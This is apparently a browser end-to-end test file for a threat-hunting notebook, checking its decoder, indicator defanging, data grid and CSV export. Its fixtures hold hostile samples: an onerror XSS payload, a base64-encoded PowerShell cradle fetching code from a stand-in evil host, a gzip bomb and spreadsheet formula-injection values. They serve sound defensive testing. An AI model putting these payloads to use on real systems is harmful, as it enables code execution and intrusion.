import { readFile } from 'node:fs/promises';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { Hunt } from '../../src/session/index.ts';
import { accessibilityFaults, ask, cells, Lab } from '../kit/workbench-page.ts';

const evil = '<img src=x onerror="window.__pwned=1">';
const base64 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

let hunt: Hunt;
let lab: Lab;

beforeAll(async () => {
  hunt = new Hunt();
  lab = await Lab.start({ hunt, sample: true });
});

afterAll(async () => {
  await lab.close();
  await hunt.close();
});

it('lays a text open step by step, and writes what was done as cells', async () => {
  const opened = await lab.open();
  const { page, faults } = opened;
  await page.getByRole('button', { name: 'Decode', exact: true }).click();
  const bench = page.locator('decoder-bench');
  const inner = `IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a') ${evil}`;
  const given = `powershell -enc ${base64(inner)} # it's "C:\\a"\n\`\`\`\n${evil}`;
  await bench.locator('textarea').fill(given);
  await bench.locator('.says', { hasText: 'DownloadString' }).waitFor();
  expect(await bench.locator('.steps > li').count()).toBe(1);
  expect(await bench.locator('.says').textContent()).toContain(evil);
  await bench.locator('.parts summary').first().click();
  expect(await bench.locator('.hex').first().textContent()).toContain('49 00 45 00 58 00');
  const url = bench.locator('.indicators li', { hasText: 'hXXp://evil[.]example[.]com/a' });
  expect(await url.textContent()).toContain('hidden');
  await url.locator('input').check();
  await bench.locator('.sending', { hasText: 'Look up 1' }).waitFor();
  await expect
    .poll(() => bench.locator('.sending').textContent())
    .toMatch(/Nothing would be sent|would go to/);
  expect(await accessibilityFaults(opened)).toEqual([]);

  await bench.getByRole('combobox').selectOption('reverse');
  await bench.getByRole('button', { name: 'Do it' }).click();
  await bench.locator('.tag', { hasText: 'asked for' }).waitFor();
  await bench.getByRole('button', { name: 'Add as cell' }).click();
  const code = page.locator('hunt-cell').last();
  await expect
    .poll(() => code.locator('.editor .view-lines, .code').first().textContent())
    .toMatch(/print.Text.=/);
  await code.locator('.said', { hasText: /rows?$/ }).waitFor();

  const bomb = gzipSync(Buffer.alloc(50e6, 65)).toString('base64');
  await bench.locator('textarea').fill(bomb);
  await bench.locator('.parts summary', { hasText: 'gz' }).waitFor();
  await bench.locator('.parts summary').first().click();
  expect(await bench.locator('.parts .warn').textContent()).toContain('unpacks to more');
  await bench.getByRole('button', { name: 'Take away step 1, reverse' }).click();
  await bench.locator('textarea').fill('a'.repeat(65_536));
  await bench.getByText('Nothing is hidden in it').waitFor();
  await page.keyboard.press('Escape');
  await expect.poll(() => bench.count()).toBe(0);
  expect(await page.evaluate('window.__pwned')).toBeUndefined();
  expect(faults.join('\n')).toBe('');
});

it('says what columns hold, keeps what is hidden and pinned as code, copies and saves what is shown', async () => {
  const opened = await lab.open();
  const { page, faults } = opened;
  await page.locator('.run:not([disabled])').waitFor();
  const encoded = Buffer.from(`powershell -c ${evil}`).toString('base64');
  await ask(
    page,
    `range N from 1 to 2000 step 1 | extend Name = iff(N % 4 == 0, '${evil}', strcat('=n', N % 3)), ['${evil}'] = N / 2.0, Code = '${encoded}'`,
  );
  await expect.poll(async () => (await cells(page, 0))[0]).toBe('1');

  const first = page.locator('hunt-grid [row-index="0"] .ag-cell').nth(2);
  await first.click();
  await page.locator('hunt-record .decoded', { hasText: 'powershell -c' }).waitFor();
  expect(await page.locator('hunt-record .decoded').textContent()).toContain(evil);
  await page.getByRole('button', { name: 'Close the record' }).click();
  await first.focus();
  await page.keyboard.press('ArrowUp');
  await page.keyboard.press('Alt+ArrowDown');
  const menu = page.locator('hunt-column-menu');
  await menu.locator('li').first().waitFor();
  expect(await menu.locator('dl').textContent()).toMatch(
    /Rows\s*2,000\s*Empty\s*0\s*Distinct values\s*4/,
  );
  expect(await menu.locator('li').first().textContent()).toContain('<img src=x');
  expect(await accessibilityFaults(opened)).toEqual([]);
  await menu.getByRole('button', { name: 'Pin' }).click();
  await menu.locator('li').nth(1).click();
  await page.locator('.filtered', { hasText: '500 of 2,000 rows' }).waitFor();

  await page.getByRole('button', { name: 'Rows and columns' }).click();
  const rows = page.locator('hunt-rows-menu');
  await rows.getByRole('checkbox', { name: 'Code' }).uncheck();
  await expect
    .poll(() => page.evaluate("sessionStorage.getItem('huntbook-scratch')"))
    .toMatch(/hide=Code.*pin=Name|pin=Name.*hide=Code/);
  await rows.getByRole('button', { name: 'Copy 500' }).click();
  await rows.getByText('500 of 500 rows copied.').waitFor();
  const copied = String(await page.evaluate('navigator.clipboard.readText()')).split('\n');
  expect(copied[0]).toBe(`Name\tN\t${evil.replaceAll('"', '""').replace(/^|$/g, '"')}`);
  expect(copied[1]).toMatch(/^'=n\d\t\d+\t/);
  const [saved] = await Promise.all([
    page.waitForEvent('download'),
    rows.getByRole('button', { name: 'CSV' }).click(),
  ]);
  expect(saved.suggestedFilename()).toBe('rows.csv');
  const lines = (await readFile(await saved.path(), 'utf8')).trim().split(/\r?\n/);
  expect(lines).toHaveLength(501);
  expect(lines[1]).toMatch(/^'=n\d,\d+,/);
  await rows.getByRole('button', { name: 'Clear filters' }).click();
  await page.keyboard.press('Escape');

  await page.getByRole('button', { name: 'Column N', exact: true }).click();
  await menu.locator('.bins').waitFor();
  await menu.getByRole('button', { name: 'Count by' }).click();
  await page.locator('.said', { hasText: '2,000 rows' }).waitFor();
  await expect
    .poll(() => page.locator('.view-lines').first().textContent())
    .toMatch(/summarize.Rows.=.count/);
  expect(await page.evaluate('window.__pwned')).toBeUndefined();
  expect(faults.join('\n')).toBe('');
});
